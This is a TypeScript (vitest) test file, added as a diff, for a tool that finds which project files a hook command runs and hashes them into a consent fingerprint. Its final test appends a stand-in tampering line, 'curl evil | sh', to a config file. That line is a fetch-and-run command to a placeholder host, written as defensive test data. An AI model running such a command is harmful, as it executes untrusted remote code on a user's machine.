@@ -1,0 +1,156 @@
+/**
+ * The project files a hook command runs through wrappers (`timeout 10 bash x`), inline command
+ * lines (`sh -c 'sh x'`), interpreter options (`python3 -m mod`, `node -r ./x`), build tools
+ * (`make`, `npm test`), and, failing closed, any file an argument names whose role is unknown. Every
+ * file here is plain and not executable: only the command's words say that it runs.
+ */
+import fs from "node:fs";
+import path from "node:path";
+import { describe, expect, it } from "vitest";
+import { consentFingerprint } from "../src/fingerprint.js";
+import { referencedScripts, scriptReferences } from "../src/script-references.js";
+import { tempDir } from "./support.js";
+
+const FILES = [
+  ".claude/hooks/audit",
+  "x",
+  "lock",
+  "rc",
+  "setup.js",
+  "mod.py",
+  "pkg/__init__.py",
+  "pkg/tool/__main__.py",
+  "lib/Foo/Bar.pm",
+  "Makefile",
+  "package.json",
+  "conf.yaml",
+  "data.json",
+];
+
+/** A project holding FILES, none executable; `found(command)` lists the ones it runs, relative. */
+function project() {
+  const dir = tempDir();
+  for (const rel of FILES) {
+    fs.mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
+    fs.writeFileSync(path.join(dir, rel), `# ${rel}\n`, { mode: 0o644 });
+  }
+  const found = (command: string) => referencedScripts(command, dir).map((f) => path.relative(dir, f));
+  const unchecked = (command: string) => scriptReferences(command, dir).unchecked;
+  return { dir, found, unchecked };
+}
+
+describe("the script behind a wrapper", () => {
+  it.each([
+    ["timeout 10 bash .claude/hooks/audit", ".claude/hooks/audit"],
+    ["timeout -s KILL -k 5 10s sh < x", "x"],
+    ["nice -n 5 sh < x", "x"],
+    ["nice sh < x", "x"],
+    ["sudo -u me -E sh < x", "x"],
+    ["stdbuf -oL -e 0 sh < x", "x"],
+    ["setsid -w sh < x", "x"],
+    ["flock -w 5 lock sh < x", "x"],
+    ["busybox sh < x", "x"],
+    ["/usr/bin/env -u HOME python3 < x", "x"],
+  ])("%s: the interpreter after it reads its script from %s", (command, script) => {
+    expect(project().found(command)).toEqual([script]);
+  });
+
+  it("a wrapper's own operand is not taken for the program: flock's lock file is not hashed", () => {
+    expect(project().found("flock lock true")).toEqual([]);
+  });
+
+  it("xargs sh: the script is a word xargs reads, listed as unchecked", () => {
+    expect(project().unchecked("git ls-files | xargs -n1 sh")).toEqual(["xargs -n1 sh"]);
+  });
+
+  it("find -exec sh {} ';': the script is a file find finds, listed as unchecked", () => {
+    expect(project().unchecked("find . -name '*.sh' -exec sh {} \\;")).toEqual(["{}"]);
+  });
+});
+
+describe("a command line a command runs", () => {
+  it.each([
+    ["sh -c 'sh x'", "x"],
+    ["bash -xc 'cd .claude && bash hooks/audit'", ".claude/hooks/audit"],
+    ["sh -c \"sh -c 'sh < x'\"", "x"],
+    ["flock lock -c 'sh x'", "x"],
+    ["env -S 'sh x'", "x"],
+  ])("%s runs %s", (command, script) => {
+    expect(project().found(command)).toEqual([script]);
+  });
+
+  it("sh -c nested deeper than it reads is listed as unchecked, not followed", () => {
+    let command = "sh x";
+    for (let k = 0; k < 12; k++) command = `sh -c '${command.replace(/'/g, `'\\''`)}'`;
+    const { found, unchecked } = project();
+    expect(found(command)).toEqual([]);
+    expect(unchecked(command)).not.toEqual([]);
+  });
+});
+
+describe("what an interpreter's options load", () => {
+  it.each([
+    ["awk -f x data.json", ["x"]],
+    ["sed -nf x data.json", ["x"]],
+    ["python3 -m mod arg", ["mod.py"]],
+    ["python3 -m pkg.tool", ["pkg/__init__.py", "pkg/tool/__main__.py"]],
+    ["node -r ./setup -e 1", ["setup.js"]],
+    ["node --require ./setup -e 1", ["setup.js"]],
+    [`node -e "require('./setup')"`, ["setup.js"]],
+    ["perl -Ilib -MFoo::Bar -e 1", ["lib/Foo/Bar.pm"]],
+    ["perl -I lib -mFoo::Bar=x -e 1", ["lib/Foo/Bar.pm"]],
+    ["bash --rcfile rc -i", ["rc"]],
+    ["BASH_ENV=rc bash -c 'echo hi'", ["rc"]],
+    ["python3.12 < x", ["x"]],
+  ])("%s loads %j", (command, files) => {
+    expect(project().found(command)).toEqual(files);
+  });
+
+  it("awk's and sed's input files are data, not hashed", () => {
+    expect(project().found("awk '{print}' data.json; sed -e s/a/b/ data.json")).toEqual([]);
+  });
+});
+
+describe("the files a build tool runs the commands of", () => {
+  it.each([
+    ["make", ["Makefile"]],
+    ["make -C . lint", ["Makefile"]],
+    ["npm test", ["package.json"]],
+    ["npm run lint -- --fix", ["package.json"]],
+    ["pnpm run lint", ["package.json"]],
+  ])("%s runs what %j says", (command, files) => {
+    expect(project().found(command)).toEqual(files);
+  });
+
+  it("npx runs an installed package's program, not a script of package.json", () => {
+    expect(project().found("npx eslint .")).toEqual([]);
+  });
+});
+
+describe("failing closed", () => {
+  it("a project file an unknown program names is hashed: it may be what the program runs", () => {
+    expect(project().found("mytool --config conf.yaml; other --in=data.json")).toEqual([
+      "conf.yaml",
+      "data.json",
+    ]);
+  });
+
+  it("the arguments of a script it hashes are that script's data, not hashed", () => {
+    expect(project().found("python3 -m mod data.json; bash .claude/hooks/audit conf.yaml")).toEqual([
+      "mod.py",
+      ".claude/hooks/audit",
+    ]);
+  });
+
+  it("a file a command known to read data names is not hashed", () => {
+    expect(project().found("cat conf.yaml | jq . && grep -q x data.json && git diff conf.yaml")).toEqual([]);
+  });
+
+  it("an edit of a file an unknown program names changes the consent fingerprint", () => {
+    const { dir } = project();
+    const spec = { type: "command", command: "timeout 10 mytool conf.yaml" } as const;
+    const before = consentFingerprint("entry", spec, dir);
+    fs.appendFileSync(path.join(dir, "conf.yaml"), "run: curl evil | sh\n");
+    expect(consentFingerprint("entry", spec, dir)).not.toBe(before);
+  });
+});
